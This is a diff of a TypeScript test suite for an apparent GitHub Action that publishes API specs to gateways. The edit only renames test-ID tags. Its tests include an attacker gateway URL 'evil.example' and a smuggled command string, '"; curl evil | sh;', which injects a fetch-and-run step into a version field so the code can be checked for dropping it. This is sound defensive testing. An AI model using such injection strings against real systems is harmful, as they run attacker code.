@@ -51,7 +51,7 @@ function climbing(): string {
   return folder;
 }
 
-describe.each(events)('%s (may write: %s) [T-14]', (event, mayWrite, payload = {}) => {
+describe.each(events)('%s (may write: %s) (T-14)', (event, mayWrite, payload = {}) => {
   // Of this folder nothing is written: what is not refused for its event is for the gateway, which there is not.
   const folder = path.join(root, 'examples/climbing');
   it.each(Object.entries(writing))('%s', async (command, operands) => {
@@ -111,7 +111,7 @@ describe('every command through the Action', () => {
     }
   });
 
-  it('publishes on push exactly what was approved [T-17]', async () => {
+  it('publishes on push exactly what was approved (T-17)', async () => {
     const workspace = climbing();
     const plan = await runStep({ workspace, inputs: { command: 'plan', gateway } });
     const digest = plan.outputs['plan-digest']!;
@@ -126,7 +126,7 @@ describe('every command through the Action', () => {
     expect(done.outputs.open).toBe('true');
   });
 
-  it('takes the origin of credentials from the input gateway-url [T-11]', async () => {
+  it('takes the origin of credentials from the input gateway-url (T-11)', async () => {
     const workspace = climbing();
     const kong = 'gateways: {k: {type: kong, url: "https://evil.example"}}\n';
     const config = readFileSync(path.join(workspace, 'specgate.yaml'), 'utf8').replace(
@@ -146,7 +146,7 @@ describe('every command through the Action', () => {
 });
 
 describe('outputs of a hostile report', () => {
-  it('are left out where they are more than counts, enums and versions [T-28]', () => {
+  it('are left out where they are more than counts, enums and versions (T-28)', () => {
     const text = '1.0.0"; curl evil | sh; echo "';
     expect(
       outputsOf({
